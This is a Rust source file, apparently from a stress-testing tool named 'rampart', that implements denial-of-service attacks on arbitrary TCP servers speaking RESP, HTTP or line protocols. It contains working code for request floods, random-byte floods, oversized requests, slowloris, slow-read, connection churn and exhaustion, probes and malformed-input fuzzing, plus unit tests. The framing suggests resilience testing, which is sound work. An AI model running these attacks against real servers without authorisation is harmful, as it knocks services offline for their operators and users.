//! The attacks against any TCP server (a `tcp://` target): the kinds that need no rampart
//! account, frame or firewall, each in the target protocol's own bytes where the kind has a
//! protocol-aware form. [`Wire`] is what an attacker knows of that protocol: how a valid
//! request, a partial one and an oversized one look. Nothing here parses a reply: replies
//! are drained and counted, and a connection ends when the server closes it.
//!
//! - flood: valid requests ([`Wire::request`]) pipelined `pipeline` at a time at full speed,
//!   replies drained;
//! - raw-flood: seeded random bytes, replies drained;
//! - oversized: a request declaring `declared_len` where the protocol declares a length (a
//!   RESP bulk string), with `body_bytes` of filler (an HTTP header value, a line);
//! - slowloris: a partial request dripped one byte every `interval_ms`, then filler that
//!   keeps it incomplete (HTTP header lines, RESP bulk bytes, line characters); half the
//!   connections stop after the partial request instead (a script has no filler: all stop);
//! - slow-read: where the protocol can store a value (RESP), first a value of `file_bytes`
//!   seeded bytes, then on every connection `requests_per_conn` pipelined requests for it
//!   (other protocols: the valid request), then one more every 250 ms to notice a cut;
//!   never a byte read;
//! - conn-churn, conn-exhaust, probe: as against rampart, the churn's partial request in the
//!   target's protocol;
//! - malformed: seeded mutations of the valid request's bytes (bit flips, truncation,
//!   inserted, repeated and deleted bytes, huge numbers, stray line ends), a few per
//!   connection, each connection watched 500 ms for an answer or a close.
//!
//! Sources, slots, start and stop work as for every attack ([`super::run`]'s `Env`); there
//! is no refusal watcher, since a server without a firewall blocks nobody. A connect that is
//! refused or reset still counts as a refusal.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use rand::rngs::StdRng;
use rand::{Rng, RngCore};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::OwnedReadHalf;
use tokio::net::TcpStream;
use tokio::time::Instant;
use tokio_util::sync::CancellationToken;

use super::net::{abort, connect_from, is_reset, RefusalSign};
use super::probe::{http_get, tls_client_hello, SSH_BANNER};
use super::run::{bump, run_slots, Counts, Env};
use super::spec::Params;
use super::{Attack, AttackContext, AttackReport};

/// A target protocol, as far as an attacker needs it: bytes to send.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Wire {
    /// RESP (redis and its kin); keys start with `key`.
    Resp {
        /// Key prefix.
        key: String,
    },
    /// HTTP/1.1.
    Http {
        /// Path of the requests.
        path: String,
        /// Host header.
        host: String,
    },
    /// One line per request.
    Line {
        /// The line, without its ending.
        line: String,
        /// The line ending.
        eol: String,
    },
    /// A script's first `send` step.
    Script {
        /// Its bytes.
        request: Vec<u8>,
    },
}

/// One RESP command: an array of bulk strings.
pub fn resp_command(args: &[&[u8]]) -> Vec<u8> {
    let mut out = format!("*{}\r\n", args.len()).into_bytes();
    for a in args {
        out.extend_from_slice(format!("${}\r\n", a.len()).as_bytes());
        out.extend_from_slice(a);
        out.extend_from_slice(b"\r\n");
    }
    out
}

impl Wire {
    /// The protocol's name in notes.
    pub fn name(&self) -> &'static str {
        match self {
            Wire::Resp { .. } => "resp",
            Wire::Http { .. } => "http",
            Wire::Line { .. } => "line",
            Wire::Script { .. } => "script",
        }
    }

    /// Valid request number `k`: for RESP a PING, GET, SET (of one of 256 keys, so memory
    /// stays bounded) or EXISTS in turn; for HTTP a GET of the path; a line with `{n}`
    /// replaced by `k`; the script's first send step.
    pub fn request(&self, k: u64) -> Vec<u8> {
        match self {
            Wire::Resp { key } => {
                let flood = format!("{key}:flood");
                match k % 4 {
                    0 => resp_command(&[b"PING"]),
                    1 => resp_command(&[b"GET", flood.as_bytes()]),
                    2 => {
                        let one = format!("{key}:flood:{}", k / 4 % 256);
                        resp_command(&[b"SET", one.as_bytes(), &[b'v'; 32]])
                    }
                    _ => resp_command(&[b"EXISTS", flood.as_bytes()]),
                }
            }
            Wire::Http { path, host } => format!(
                "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: rampart-attack\r\nAccept: */*\r\n\r\n"
            )
            .into_bytes(),
            Wire::Line { line, eol } => {
                format!("{}{eol}", line.replace("{n}", &k.to_string())).into_bytes()
            }
            Wire::Script { request } => request.clone(),
        }
    }

    /// slow-read's setup, where the protocol can store a value (RESP): the request that
    /// stores `value` under the key the big replies come from.
    pub fn store_big(&self, value: &[u8]) -> Option<Vec<u8>> {
        match self {
            Wire::Resp { key } => Some(resp_command(&[
                b"SET",
                format!("{key}:big").as_bytes(),
                value,
            ])),
            _ => None,
        }
    }

    /// slow-read's request after [`Wire::store_big`]: one that returns the whole value.
    pub fn fetch_big(&self) -> Option<Vec<u8>> {
        match self {
            Wire::Resp { key } => Some(resp_command(&[b"GET", format!("{key}:big").as_bytes()])),
            _ => None,
        }
    }

    /// slowloris: the start of a request the server must wait on, and the filler dripped
    /// after it that never completes it (empty: nothing more is sent). RESP declares a bulk
    /// string of `declared_len` bytes; HTTP sends its request line and Host, then header
    /// lines; a line never ends; a script sends its step but the last byte.
    pub fn partial(&self, declared_len: u32) -> (Vec<u8>, Vec<u8>) {
        match self {
            Wire::Resp { key } => {
                let k = format!("{key}:slow");
                let head = format!(
                    "*3\r\n$3\r\nSET\r\n${}\r\n{k}\r\n${declared_len}\r\n",
                    k.len()
                );
                (head.into_bytes(), b"x".to_vec())
            }
            Wire::Http { path, host } => (
                format!("GET {path} HTTP/1.1\r\nHost: {host}\r\n").into_bytes(),
                b"X-a: b\r\n".to_vec(),
            ),
            Wire::Line { .. } => (Vec::new(), b"a".to_vec()),
            Wire::Script { request } => {
                let keep = request.len().saturating_sub(1);
                (request.get(..keep).unwrap_or_default().to_vec(), Vec::new())
            }
        }
    }

    /// oversized: the head of a huge request, the byte repeated as its body, and its tail.
    /// RESP declares `declared_len` for the bulk string; HTTP puts the body in one header
    /// value; a line is the body; a script's step gets the body before its last byte.
    pub fn oversized(&self, declared_len: u32) -> (Vec<u8>, u8, Vec<u8>) {
        match self {
            Wire::Resp { key } => {
                let k = format!("{key}:oversized");
                let head = format!(
                    "*3\r\n$3\r\nSET\r\n${}\r\n{k}\r\n${declared_len}\r\n",
                    k.len()
                );
                (head.into_bytes(), b'x', b"\r\n".to_vec())
            }
            Wire::Http { path, host } => (
                format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nX-Oversized: ").into_bytes(),
                b'a',
                b"\r\n\r\n".to_vec(),
            ),
            Wire::Line { eol, .. } => (Vec::new(), b'a', eol.as_bytes().to_vec()),
            Wire::Script { request } => {
                let keep = request.len().saturating_sub(1);
                let (head, tail) = request.split_at(keep);
                (head.to_vec(), b'A', tail.to_vec())
            }
        }
    }
}

/// One seeded mutation of `bytes`, and its name for the report.
pub fn mutate(rng: &mut StdRng, bytes: &[u8]) -> (Vec<u8>, &'static str) {
    let mut b = bytes.to_vec();
    if b.is_empty() {
        b.push(0);
    }
    let at = rng.gen_range(0..b.len());
    let label = match rng.gen_range(0..8u8) {
        0 => {
            for _ in 0..rng.gen_range(1..=4) {
                let i = rng.gen_range(0..b.len());
                if let Some(x) = b.get_mut(i) {
                    *x ^= 1 << rng.gen_range(0..8);
                }
            }
            "bit flips"
        }
        1 => {
            b.truncate(at.max(1));
            "truncated"
        }
        2 => {
            let mut junk = vec![0u8; rng.gen_range(1..=16)];
            rng.fill_bytes(&mut junk);
            b.splice(at..at, junk);
            "random bytes inserted"
        }
        3 => {
            let end = (at + rng.gen_range(1..=8)).min(b.len());
            let piece = b.get(at..end).unwrap_or_default().to_vec();
            for _ in 0..rng.gen_range(2..=64) {
                b.splice(at..at, piece.iter().copied());
            }
            "bytes repeated"
        }
        4 => {
            let end = (at + rng.gen_range(1..=8)).min(b.len());
            b.drain(at..end);
            "bytes deleted"
        }
        5 => {
            // A length or count made huge or negative, where the protocol has digits.
            match b.iter().position(u8::is_ascii_digit) {
                Some(i) => {
                    let end = b
                        .iter()
                        .skip(i)
                        .position(|c| !c.is_ascii_digit())
                        .map_or(b.len(), |n| i + n);
                    let huge: &[u8] = if rng.gen_bool(0.5) {
                        b"99999999999999999999"
                    } else {
                        b"-1"
                    };
                    b.splice(i..end, huge.iter().copied());
                    "number made huge or negative"
                }
                None => {
                    b.splice(at..at, b"99999999999999999999".iter().copied());
                    "digits inserted"
                }
            }
        }
        6 => {
            let stray: &[u8] = match rng.gen_range(0..3) {
                0 => b"\r",
                1 => b"\n",
                _ => b"\r\n\r\n",
            };
            b.splice(at..at, stray.iter().copied());
            "stray line end"
        }
        _ => {
            rng.fill_bytes(&mut b);
            "random bytes of the same length"
        }
    };
    (b, label)
}

/// Most requests one flood write carries, whatever `pipeline` says, so a write stays small.
const MAX_BATCH_BYTES: usize = 256 * 1024;
/// Mutated requests per malformed connection.
const MALFORMED_PER_CONN: u32 = 4;
/// How long a malformed or probe connection waits for an answer or a close.
const ANSWER_WAIT: Duration = Duration::from_millis(500);
/// A probe waits this long for the server to answer and close.
const PROBE_ANSWER_WAIT: Duration = Duration::from_secs(1);
/// Writes of an oversized body.
const OVERSIZED_CHUNK: usize = 64 * 1024;
/// Between slow-read's requests once `requests_per_conn` are out.
const TRICKLE: Duration = Duration::from_millis(250);
/// Longest wait for the server to store slow-read's big value.
const STORE_WAIT: Duration = Duration::from_secs(10);
/// Requests per slow-read write.
const SLOW_READ_BATCH: u64 = 64;
/// Back-off after a failed connect.
const CONNECT_BACKOFF_MS: (u64, u64) = (200, 500);

/// Runs `attack` against a `tcp://` target speaking `wire`, until its stop time or until
/// `ctx.stop` is cancelled. The kinds without a generic form run nothing and say so in the
/// report; the runner refuses them before any run
/// (`crate::scenario::target::GENERIC_KINDS`).
pub async fn run(attack: &Attack, ctx: AttackContext, wire: Arc<Wire>) -> AttackReport {
    let params = attack.params.clone();
    let kind = attack.kind();
    super::drive(attack, ctx, move |env| async move {
        env.note(format!("generic form against a {} target", wire.name()));
        match params {
            Params::Flood { pipeline, .. } => flood(env, wire, pipeline).await,
            Params::RawFlood {
                bytes_per_s,
                chunk_bytes,
            } => raw_flood(env, bytes_per_s, chunk_bytes).await,
            Params::Oversized {
                declared_len,
                body_bytes,
            } => oversized(env, wire, declared_len, body_bytes).await,
            Params::Slowloris {
                interval,
                declared_len,
            } => slowloris(env, wire, interval, declared_len).await,
            Params::SlowRead {
                file_bytes,
                requests_per_conn,
                ..
            } => slow_read(env, wire, file_bytes, requests_per_conn).await,
            Params::ConnChurn { per_source_rate } => churn(env, wire, per_source_rate).await,
            Params::ConnExhaust => exhaust(env).await,
            Params::Malformed { .. } => malformed(env, wire).await,
            Params::Probe { interval } => probe(env, interval).await,
            _ => env.note(format!("{kind} has no generic form: nothing was sent")),
        }
    })
    .await
}

/// Opens a connection from the next source in turn, retrying until one connects or the
/// attack halts. No admission check: any server may speak first.
async fn open(env: &Env, rng: &mut StdRng) -> Option<(TcpStream, Ipv4Addr)> {
    while env.live() {
        let source = env.next_source();
        env.touch(source);
        let connected = tokio::select! {
            r = connect_from(source, env.target) => r,
            _ = env.halt.cancelled() => return None,
        };
        match connected {
            Ok(stream) => {
                env.obs.connects.fetch_add(1, Ordering::Relaxed);
                return Some((stream, source));
            }
            Err(e) if is_reset(e.kind()) => env.refused(source, RefusalSign::Reset),
            Err(e) => {
                env.merge(&Counts::from([("connect failed", 1)]));
                env.note(format!("connect from {source} failed: {e}"));
            }
        }
        let backoff = rng.gen_range(CONNECT_BACKOFF_MS.0..=CONNECT_BACKOFF_MS.1);
        env.sleep(Duration::from_millis(backoff)).await;
    }
    None
}

/// Reads and discards what the server sends until it closes, counting the bytes.
struct Sink {
    handle: tokio::task::JoinHandle<()>,
    /// Cancelled once the server closed (or reset) the connection.
    closed: CancellationToken,
}

impl Sink {
    fn spawn(env: &Arc<Env>, mut rd: OwnedReadHalf, received: Arc<AtomicU64>) -> Sink {
        let closed = CancellationToken::new();
        let done = closed.clone();
        let env = Arc::clone(env);
        let handle = tokio::spawn(async move {
            let mut buf = vec![0u8; 16 * 1024];
            let label = loop {
                tokio::select! {
                    r = rd.read(&mut buf) => match r {
                        Ok(0) => break "conn cut: closed",
                        Ok(n) => { received.fetch_add(n as u64, Ordering::Relaxed); }
                        Err(_) => break "conn cut: reset",
                    },
                    _ = env.halt.cancelled() => break "",
                }
            };
            if !label.is_empty() {
                env.merge(&Counts::from([(label, 1)]));
            }
            done.cancel();
        });
        Sink { handle, closed }
    }

    /// Waits up to `wait` for the close, then stops reading.
    async fn finish(mut self, wait: Duration) {
        if tokio::time::timeout(wait, &mut self.handle).await.is_err() {
            self.handle.abort();
        }
    }
}

/// Notes the bytes received, once at the end.
fn note_received(env: &Env, received: &AtomicU64) {
    env.note(format!(
        "received {} bytes of replies",
        received.load(Ordering::Relaxed)
    ));
}

/// Writes `bytes` unless the server closes or the attack halts first.
async fn write_or_closed(
    env: &Env,
    wr: &mut tokio::net::tcp::OwnedWriteHalf,
    bytes: &[u8],
    frames: u64,
    closed: &CancellationToken,
) -> bool {
    tokio::select! {
        r = env.write(wr, bytes, frames) => r.is_ok(),
        _ = closed.cancelled() => false,
    }
}

async fn flood(env: Arc<Env>, wire: Arc<Wire>, pipeline: u32) {
    let received = Arc::new(AtomicU64::new(0));
    let r = Arc::clone(&received);
    run_slots(&env, move |env, slot| {
        let wire = Arc::clone(&wire);
        let received = Arc::clone(&r);
        async move {
            let mut rng = env.rng(slot as u64);
            let mut k = slot as u64 * 1_000_000;
            while env.live() {
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                let (rd, mut wr) = stream.into_split();
                let sink = Sink::spawn(&env, rd, Arc::clone(&received));
                while env.live() && !sink.closed.is_cancelled() {
                    let mut batch = Vec::new();
                    let mut n = 0u64;
                    while n < u64::from(pipeline) && batch.len() < MAX_BATCH_BYTES {
                        batch.extend_from_slice(&wire.request(k));
                        k = k.wrapping_add(1);
                        n += 1;
                    }
                    if !write_or_closed(&env, &mut wr, &batch, n, &sink.closed).await {
                        break;
                    }
                }
                drop(wr);
                sink.finish(Duration::from_millis(300)).await;
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
    note_received(&env, &received);
}

async fn raw_flood(env: Arc<Env>, bytes_per_s: Option<u64>, chunk_bytes: usize) {
    // Each slot's share of the cap, at least one byte a second.
    let per_slot = bytes_per_s.map(|r| (r / env.slots.max(1) as u64).max(1));
    let received = Arc::new(AtomicU64::new(0));
    let r = Arc::clone(&received);
    run_slots(&env, move |env, slot| {
        let received = Arc::clone(&r);
        async move {
            let mut rng = env.rng(slot as u64);
            // One pool per slot, read at random offsets: random enough, and cheap.
            let mut pool = vec![0u8; 64 * 1024 + chunk_bytes];
            rng.fill_bytes(&mut pool);
            let started = Instant::now();
            let mut paced = 0u64;
            while env.live() {
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                let (rd, mut wr) = stream.into_split();
                let sink = Sink::spawn(&env, rd, Arc::clone(&received));
                while env.live() && !sink.closed.is_cancelled() {
                    let len = match per_slot {
                        Some(rate) => chunk_bytes.min((rate / 10).max(1) as usize),
                        None => chunk_bytes,
                    };
                    let at = rng.gen_range(0..64 * 1024);
                    let Some(piece) = pool.get(at..at + len) else {
                        break;
                    };
                    if !write_or_closed(&env, &mut wr, piece, 0, &sink.closed).await {
                        break;
                    }
                    if let Some(rate) = per_slot {
                        paced += len as u64;
                        let due = started + Duration::from_secs_f64(paced as f64 / rate as f64);
                        if !env.sleep_until(due).await {
                            break;
                        }
                    }
                }
                drop(wr);
                sink.finish(Duration::from_millis(300)).await;
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
    note_received(&env, &received);
}

async fn oversized(env: Arc<Env>, wire: Arc<Wire>, declared_len: u32, body_bytes: u64) {
    let received = Arc::new(AtomicU64::new(0));
    let r = Arc::clone(&received);
    run_slots(&env, move |env, slot| {
        let wire = Arc::clone(&wire);
        let received = Arc::clone(&r);
        async move {
            let mut rng = env.rng(slot as u64);
            let (head, fill, tail) = wire.oversized(declared_len);
            let chunk = vec![fill; OVERSIZED_CHUNK];
            while env.live() {
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                let (rd, mut wr) = stream.into_split();
                let sink = Sink::spawn(&env, rd, Arc::clone(&received));
                let mut counts = Counts::new();
                let mut ok = write_or_closed(&env, &mut wr, &head, 1, &sink.closed).await;
                let mut left = body_bytes;
                while ok && left > 0 {
                    let n = left.min(OVERSIZED_CHUNK as u64) as usize;
                    ok = write_or_closed(
                        &env,
                        &mut wr,
                        chunk.get(..n).unwrap_or_default(),
                        0,
                        &sink.closed,
                    )
                    .await;
                    left -= n as u64;
                }
                if ok {
                    ok = write_or_closed(&env, &mut wr, &tail, 0, &sink.closed).await;
                }
                bump(
                    &mut counts,
                    if ok {
                        "oversized request sent whole"
                    } else {
                        "oversized request cut before its end"
                    },
                );
                env.merge(&counts);
                drop(wr);
                sink.finish(ANSWER_WAIT).await;
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
    note_received(&env, &received);
}

async fn slowloris(env: Arc<Env>, wire: Arc<Wire>, interval: Duration, declared_len: u32) {
    let (head, filler) = wire.partial(declared_len);
    let (head, filler) = (Arc::new(head), Arc::new(filler));
    run_slots(&env, move |env, slot| {
        let (head, filler) = (Arc::clone(&head), Arc::clone(&filler));
        async move {
            let mut rng = env.rng(slot as u64);
            let mut n = slot;
            while env.live() {
                // Half the connections stop once the partial request is out.
                let stall = n % 2 == 1 || filler.is_empty();
                n = n.wrapping_add(1);
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                let (rd, mut wr) = stream.into_split();
                let sink = Sink::spawn(&env, rd, Arc::new(AtomicU64::new(0)));
                env.merge(&Counts::from([(
                    if stall {
                        "stall connections"
                    } else {
                        "drip connections"
                    },
                    1,
                )]));
                let mut sent = 0usize;
                loop {
                    let byte = if sent < head.len() {
                        head.get(sent).copied()
                    } else if stall {
                        None
                    } else {
                        filler
                            .get((sent - head.len()) % filler.len().max(1))
                            .copied()
                    };
                    let Some(byte) = byte else {
                        // Stalled: hold until the server gives up or the attack ends.
                        tokio::select! {
                            _ = sink.closed.cancelled() => {}
                            _ = env.halt.cancelled() => {}
                        }
                        break;
                    };
                    if !write_or_closed(&env, &mut wr, &[byte], 0, &sink.closed).await {
                        break;
                    }
                    sent += 1;
                    tokio::select! {
                        _ = tokio::time::sleep(interval) => {}
                        _ = sink.closed.cancelled() => break,
                        _ = env.halt.cancelled() => break,
                    }
                }
                drop(wr);
                sink.finish(Duration::from_millis(100)).await;
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
}

async fn slow_read(env: Arc<Env>, wire: Arc<Wire>, file_bytes: u64, requests_per_conn: u32) {
    let big = store_big(&env, &wire, file_bytes).await;
    if !env.live() {
        return;
    }
    run_slots(&env, move |env, slot| {
        let (wire, big) = (Arc::clone(&wire), big.clone());
        async move {
            let mut rng = env.rng(slot as u64);
            let mut k = slot as u64 * 1_000_000;
            let mut request = move || {
                k = k.wrapping_add(1);
                big.clone().unwrap_or_else(|| wire.request(k))
            };
            while env.live() {
                let Some((mut stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                // Never read: the replies pile up in the server or in the kernel's buffers.
                let mut sent = 0u32;
                let label = loop {
                    let mut batch = Vec::new();
                    let mut n = 0u64;
                    while sent < requests_per_conn && n < SLOW_READ_BATCH {
                        batch.extend_from_slice(&request());
                        sent += 1;
                        n += 1;
                    }
                    if n == 0 {
                        // All requests are out: one more now and then shows a cut.
                        if !env.sleep(TRICKLE).await {
                            break "";
                        }
                        batch = request();
                        n = 1;
                    }
                    match env.write(&mut stream, &batch, n).await {
                        Ok(()) => {}
                        Err(super::run::WriteEnd::Halted) => break "",
                        Err(super::run::WriteEnd::Failed) => break "conn cut while writing",
                    }
                };
                if !label.is_empty() {
                    env.merge(&Counts::from([(label, 1)]));
                }
                abort(stream);
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
}

/// Stores slow-read's big value where the protocol can ([`Wire::store_big`]), retrying from
/// the next source every half second until the server takes it or the attack halts. Returns
/// the request that fetches it, or `None` (the protocol cannot store, or the attack halted).
async fn store_big(env: &Arc<Env>, wire: &Wire, file_bytes: u64) -> Option<Vec<u8>> {
    let mut rng = env.rng(u64::MAX);
    let mut value = vec![0u8; usize::try_from(file_bytes).unwrap_or(usize::MAX)];
    rng.fill_bytes(&mut value);
    let store = wire.store_big(&value)?;
    drop(value);
    while env.live() {
        let (mut stream, _) = open(env, &mut rng).await?;
        let mut reply = [0u8; 5];
        let stored = async {
            stream.write_all(&store).await?;
            stream.read_exact(&mut reply).await?;
            Ok::<bool, std::io::Error>(&reply == b"+OK\r\n")
        };
        let ok = tokio::select! {
            r = tokio::time::timeout(STORE_WAIT, stored) => matches!(r, Ok(Ok(true))),
            _ = env.halt.cancelled() => return None,
        };
        abort(stream);
        if ok {
            env.sent(1, store.len());
            env.note(format!("stored a {file_bytes}-byte value to ask for"));
            return wire.fetch_big();
        }
        env.note("the server would not store the big value; retrying");
        if !env.sleep(Duration::from_millis(500)).await {
            return None;
        }
    }
    None
}

async fn churn(env: Arc<Env>, wire: Arc<Wire>, per_source_rate: f64) {
    // The whole attack's rate, shared by the slots.
    let total_rate = per_source_rate * env.sources.len().max(1) as f64;
    let every = Duration::from_secs_f64(env.slots.max(1) as f64 / total_rate);
    let (partial, _) = wire.partial(1_000_000);
    let partial = Arc::new(partial);
    let turn = Arc::new(AtomicUsize::new(0));
    run_slots(&env, move |env, slot| {
        let (partial, turn) = (Arc::clone(&partial), Arc::clone(&turn));
        async move {
            let mut rng = env.rng(slot as u64);
            let mut next = Instant::now();
            while env.live() {
                if !env.sleep_until(next).await {
                    break;
                }
                // A slot that fell behind does not make up for it in a burst.
                let now = Instant::now();
                next = next.max(now.checked_sub(every).unwrap_or(now)) + every;
                let Some((mut stream, _)) = open(&env, &mut rng).await else {
                    continue;
                };
                let label = match turn.fetch_add(1, Ordering::Relaxed) % 3 {
                    0 => {
                        abort(stream);
                        "churn: reset at once"
                    }
                    1 => {
                        let _ = stream.shutdown().await;
                        "churn: closed with no bytes"
                    }
                    _ => {
                        if stream.write_all(&partial).await.is_ok() {
                            env.sent(0, partial.len());
                        }
                        let _ = stream.shutdown().await;
                        "churn: partial request then close"
                    }
                };
                env.merge(&Counts::from([(label, 1)]));
            }
        }
    })
    .await;
}

async fn exhaust(env: Arc<Env>) {
    let held = Arc::new(AtomicUsize::new(0));
    let peak = Arc::new(AtomicUsize::new(0));
    let (h, p) = (Arc::clone(&held), Arc::clone(&peak));
    run_slots(&env, move |env, slot| {
        let (held, peak) = (Arc::clone(&h), Arc::clone(&p));
        async move {
            let mut rng = env.rng(slot as u64);
            while env.live() {
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                let now = held.fetch_add(1, Ordering::Relaxed) + 1;
                peak.fetch_max(now, Ordering::Relaxed);
                let (rd, wr) = stream.into_split();
                // Send nothing; hold until the server gives up on us.
                let sink = Sink::spawn(&env, rd, Arc::new(AtomicU64::new(0)));
                tokio::select! {
                    _ = sink.closed.cancelled() => {}
                    _ = env.halt.cancelled() => {}
                }
                held.fetch_sub(1, Ordering::Relaxed);
                drop(wr);
                sink.finish(Duration::from_millis(50)).await;
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
    env.note(format!(
        "held at most {} connections at once",
        peak.load(Ordering::Relaxed)
    ));
}

async fn malformed(env: Arc<Env>, wire: Arc<Wire>) {
    run_slots(&env, move |env, slot| {
        let wire = Arc::clone(&wire);
        async move {
            let mut rng = env.rng(slot as u64);
            let mut k = slot as u64 * 1_000_000;
            while env.live() {
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let opened = Instant::now();
                let received = Arc::new(AtomicU64::new(0));
                let (rd, mut wr) = stream.into_split();
                let sink = Sink::spawn(&env, rd, Arc::clone(&received));
                let mut counts = Counts::new();
                for _ in 0..MALFORMED_PER_CONN {
                    let (bytes, label) = mutate(&mut rng, &wire.request(k));
                    k = k.wrapping_add(1);
                    bump(&mut counts, label);
                    if !write_or_closed(&env, &mut wr, &bytes, 1, &sink.closed).await {
                        break;
                    }
                }
                tokio::select! {
                    _ = sink.closed.cancelled() => {}
                    _ = tokio::time::sleep(ANSWER_WAIT) => {}
                    _ = env.halt.cancelled() => {}
                }
                bump(
                    &mut counts,
                    match (
                        received.load(Ordering::Relaxed) > 0,
                        sink.closed.is_cancelled(),
                    ) {
                        (true, true) => "answered, then closed",
                        (true, false) => "answered, kept open",
                        (false, true) => "closed without an answer",
                        (false, false) => "no answer",
                    },
                );
                env.merge(&counts);
                drop(wr);
                sink.finish(Duration::from_millis(50)).await;
                env.pace(opened, &mut rng).await;
            }
        }
    })
    .await;
}

async fn probe(env: Arc<Env>, interval: Duration) {
    let host = env.target.ip().to_string();
    run_slots(&env, move |env, slot| {
        let host = host.clone();
        async move {
            let mut rng = env.rng(slot as u64);
            let mut n = slot;
            while env.live() {
                let Some((stream, _)) = open(&env, &mut rng).await else {
                    break;
                };
                let (bytes, label) = match n % 3 {
                    0 => (http_get(&host), "probe: http"),
                    1 => (tls_client_hello(&host, &mut rng), "probe: tls"),
                    _ => (SSH_BANNER.to_vec(), "probe: ssh"),
                };
                n = n.wrapping_add(1);
                let received = Arc::new(AtomicU64::new(0));
                let (rd, mut wr) = stream.into_split();
                let sink = Sink::spawn(&env, rd, Arc::clone(&received));
                let mut counts = Counts::new();
                bump(&mut counts, label);
                if write_or_closed(&env, &mut wr, &bytes, 1, &sink.closed).await {
                    tokio::select! {
                        _ = sink.closed.cancelled() => {}
                        _ = tokio::time::sleep(PROBE_ANSWER_WAIT) => {}
                        _ = env.halt.cancelled() => {}
                    }
                }
                if received.load(Ordering::Relaxed) > 0 {
                    bump(&mut counts, "probe answered");
                }
                env.merge(&counts);
                drop(wr);
                sink.finish(Duration::from_millis(50)).await;
                if !env.sleep(interval).await {
                    break;
                }
            }
        }
    })
    .await;
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn resp() -> Wire {
        Wire::Resp { key: "k".into() }
    }

    #[test]
    fn resp_commands_are_arrays_of_bulk_strings() {
        assert_eq!(
            resp_command(&[b"GET", b"k"]),
            b"*2\r\n$3\r\nGET\r\n$1\r\nk\r\n"
        );
        assert_eq!(resp().request(0), b"*1\r\n$4\r\nPING\r\n");
    }

    #[test]
    fn partial_requests_never_complete() {
        let (head, filler) = resp().partial(1000);
        assert!(head.ends_with(b"$1000\r\n"), "{head:?}");
        assert_eq!(filler, b"x");
        let http = Wire::Http {
            path: "/".into(),
            host: "h".into(),
        };
        let (head, filler) = http.partial(0);
        assert_eq!(head, b"GET / HTTP/1.1\r\nHost: h\r\n");
        assert!(!filler.windows(4).any(|w| w == b"\r\n\r\n"));
        let script = Wire::Script {
            request: b"PING\r\n".to_vec(),
        };
        assert_eq!(script.partial(0), (b"PING\r".to_vec(), Vec::new()));
    }

    #[test]
    fn oversized_requests_declare_and_wrap_the_body() {
        let (head, fill, tail) = resp().oversized(u32::MAX);
        assert!(head.ends_with(b"$4294967295\r\n"));
        assert_eq!((fill, tail.as_slice()), (b'x', &b"\r\n"[..]));
        let line = Wire::Line {
            line: "x".into(),
            eol: "\n".into(),
        };
        assert_eq!(line.oversized(0), (Vec::new(), b'a', b"\n".to_vec()));
    }

    #[test]
    fn mutations_are_seeded_and_change_the_bytes() {
        let req = resp().request(1);
        let run = |seed| {
            let mut rng = StdRng::seed_from_u64(seed);
            (0..64).map(|_| mutate(&mut rng, &req)).collect::<Vec<_>>()
        };
        assert_eq!(run(7), run(7));
        let labels: std::collections::BTreeSet<&str> = run(7).iter().map(|(_, l)| *l).collect();
        assert!(labels.len() >= 6, "{labels:?}");
        assert!(run(7).iter().filter(|(b, _)| *b != req).count() >= 56);
        let mut rng = StdRng::seed_from_u64(1);
        assert!(!mutate(&mut rng, &[]).0.is_empty());
    }
}
